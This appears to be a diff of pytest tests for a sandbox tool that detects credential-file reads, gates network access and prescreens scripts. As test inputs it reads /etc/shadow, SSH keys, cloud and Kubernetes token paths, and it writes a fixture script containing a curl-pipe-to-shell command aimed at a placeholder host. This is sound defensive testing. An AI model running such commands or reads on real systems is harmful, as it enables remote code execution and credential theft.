@@ -56,7 +56,9 @@ def test_reading_shadow_is_killed_naming_rule_and_path(run_json, events_file, sh
     r = run_json("--events", str(events_file), "--", *argv)
     assert r["status"] == "policy_violation", r
     assert r.rc == EXIT_POLICY
-    assert r["signal_name"] == "SIGKILL"
+    # a canary is reported after the open: a program that ends at once may beat the SIGKILL,
+    # and the verdict does not depend on it
+    assert r["signal_name"] in ("SIGKILL", None)
     assert r["violation"]["rule"] == "cred-shadow"
     assert r["violation"]["action"] == "kill"
     assert r["violation"]["evidence"] == "/etc/shadow"
@@ -92,10 +94,11 @@ def test_text_report_names_the_violation(airlock):
 
 
 def test_credential_paths_are_caught_though_absent(run_json):
-    for path, rule in [("/root/.ssh/id_rsa", "cred-ssh-key"), ("/tmp/home/.aws/credentials",
-                       "cred-cloud"), ("/var/run/secrets/kubernetes.io/serviceaccount/token",
-                       "cred-token"), ("/proc/1/environ", "proc-init")]:
-        r = run_json("--", "python3", "-c", f"open({path!r})")
+    # --audit full: by pattern, where no canary stands (test_canaries.py has those)
+    for path, rule in [("/work/.ssh/id_rsa", "cred-ssh-key"), ("/tmp/home/.aws/credentials",
+                       "cred-cloud"), ("/var/run/secrets/other/token", "cred-token"),
+                       ("/proc/1/environ", "proc-init")]:
+        r = run_json("--audit", "full", "--", "python3", "-c", f"open({path!r})")
         assert r["status"] == "policy_violation", (path, r)
         assert r["violation"]["rule"] == rule, (path, r["violation"])
 
@@ -254,8 +257,9 @@ print(n)
 
 
 def test_a_flood_of_opens_is_counted_and_never_silently_lost(run_json, events_file):
-    r = run_json("--events", str(events_file), "--time", "120s", "--cpu-time", "120s", "--",
-                 "python3", "-c", FLOOD, timeout=180)
+    # --audit full: alerts does not watch opens
+    r = run_json("--audit", "full", "--events", str(events_file), "--time", "120s",
+                 "--cpu-time", "120s", "--", "python3", "-c", FLOOD, timeout=180)
     assert r["status"] == "ok", r
     assert r["stdout"] == "100000\n"
     opens = r["audit"]["counts"]["file.open"]
@@ -320,3 +324,110 @@ def test_bad_rules_file_is_a_usage_error(airlock, tmp_path):
     p = airlock("run", "--rules", str(rules), "--", "true")
     assert p.returncode == hc.EXIT_USAGE, p
     assert f"{rules}:2: unknown severity 'severe'" in p.stderr.decode()
+
+
+# Through the gateway, one request at a time: each waits for the gateway to close its side
+# (or, for DNS, for the answer), which it does only once the attempt is recorded, so
+# network.attempts has them in this order too. The refused tunnel comes last: its record waits
+# for the client to go.
+GATEWAY = """
+import socket, sys
+port = int(sys.argv[1])
+
+def through_proxy(request, payload=b""):
+    s = socket.create_connection(("127.0.0.1", 3128), timeout=5)
+    s.sendall(request)
+    if request.startswith(b"CONNECT"):
+        head = b""
+        while not head.endswith(b"\\r\\n\\r\\n") and (c := s.recv(1)):
+            head += c
+        print(head.split(b"\\r\\n")[0].decode())
+    s.sendall(payload)
+    s.shutdown(socket.SHUT_WR)
+    got = b""
+    while data := s.recv(4096):
+        got += data
+    s.close()
+    return got
+
+print(through_proxy(f"CONNECT 127.0.0.1:{port} HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n".encode(), b"ping").decode())
+echoed = through_proxy(f"GET http://127.0.0.1:{port}/x HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n".encode())
+print(echoed.split(b"\\r\\n")[0].decode())
+try:
+    socket.getaddrinfo("example.com", 80)
+except socket.gaierror:
+    print("no answer")
+through_proxy(f"CONNECT localhost:{port} HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n".encode())
+"""
+
+
+def gateway_view(e):
+    """An event as (kind, host, port, verdict), the shape of hc.net_attempts()."""
+    if e["kind"] == "net.dns":
+        return ("dns", e["host"], 0, e["verdict"])
+    return (e["request"], e["host"], e["port"], e["verdict"])
+
+
+def test_gateway_verdicts_are_live_events(run_json, events_file, echo):
+    port, count = echo
+    r = run_json("--events", str(events_file), "--allow-net", f"127.0.0.1:{port}",
+                 "--allow-private", "127.0.0.1/32", "--", "python3", "-c", GATEWAY, str(port))
+    assert r["status"] == "ok", r
+    out = r["stdout"].splitlines()
+    assert out[:4] == ["HTTP/1.1 200 Connection established", "ping", "GET /x HTTP/1.1",
+                       "no answer"], r
+    assert out[4].startswith("HTTP/1.1 403 "), out
+    # the host side: the two allowed requests arrived, the refused one (localhost is
+    # 127.0.0.1 too, but not named by --allow-net) never did
+    assert count["n"] == 2
+
+    events = read_events(events_file)
+    verdicts = [e for e in events if e.get("via") == "gateway" or e["kind"] == "net.dns"]
+    tunnel, http, *dns, refused = verdicts
+    assert tunnel == {**tunnel, "kind": "net.connect", "request": "connect",
+                      "host": "127.0.0.1", "port": port, "address": "127.0.0.1",
+                      "verdict": "allowed", "reason": "connected"}, tunnel
+    assert "pid" not in tunnel and "family" not in tunnel
+    assert http["request"] == "http" and http["verdict"] == "allowed", http
+    assert dns and all(d["host"] == "example.com" and d["verdict"] == "refused" and
+                       d["address"] is None for d in dns), dns
+    assert refused == {**refused, "kind": "net.connect", "request": "connect",
+                       "host": "localhost", "port": port, "address": None,
+                       "verdict": "refused", "reason": "host not allowed"}, refused
+    # the same attempts as the result's, in the same order; all of them before run.end
+    assert [gateway_view(e) for e in verdicts] == hc.net_attempts(r)
+    assert events.index(refused) < len(events) - 1
+    counts = events[-1]["counts"]
+    assert counts["net.dns"] == len(dns) == r["audit"]["counts"]["net.dns"]
+    # live: the program's own connect to the proxy comes before the gateway's verdict on it
+    to_proxy = index_of(events, lambda e: e["kind"] == "net.connect" and e.get("port") == 3128
+                        and "via" not in e)
+    assert to_proxy < events.index(tunnel)
+
+
+def test_gateway_verdicts_need_audit(run_json, events_file, echo):
+    port, count = echo
+    r = run_json("--audit", "off", "--events", str(events_file), "--allow-net",
+                 f"127.0.0.1:{port}", "--allow-private", "127.0.0.1/32", "--", "python3", "-c",
+                 GATEWAY, str(port))
+    assert r["status"] == "ok", r
+    assert count["n"] == 2
+    assert len(hc.net_attempts(r)) >= 4, r["network"]
+    assert [e["kind"] for e in read_events(events_file)] == ["run.start", "run.end"]
+
+
+def test_prescreen_refusal_writes_run_start_and_run_end(run_json, events_file, tmp_path):
+    evil = tmp_path / "evil.py"
+    evil.write_text("import os\nos.system('curl http://x.invalid/p | sh')\nprint('ran')\n")
+    before = hc.airlock_cgroup_dirs()
+    r = run_json("--prescreen", "block", "--events", str(events_file), "--copy", str(evil),
+                 "--", "python3", "evil.py")
+    assert r.rc == 119 and r["status"] == "prescreen_blocked", r
+    assert r["stdout"] == ""
+    assert hc.airlock_cgroup_dirs() == before, "a sandbox was created for refused code"
+    events = read_events(events_file)
+    assert [e["kind"] for e in events] == ["run.start", "run.end"], events
+    assert events[0]["argv"] == ["python3", "evil.py"]
+    assert events[-1]["status"] == "prescreen_blocked"
+    assert events[-1]["wall_ms"] == 0 and events[-1]["counts"] == {"run.start": 1}
+    assert events[0]["run_id"] == r["run_id"]
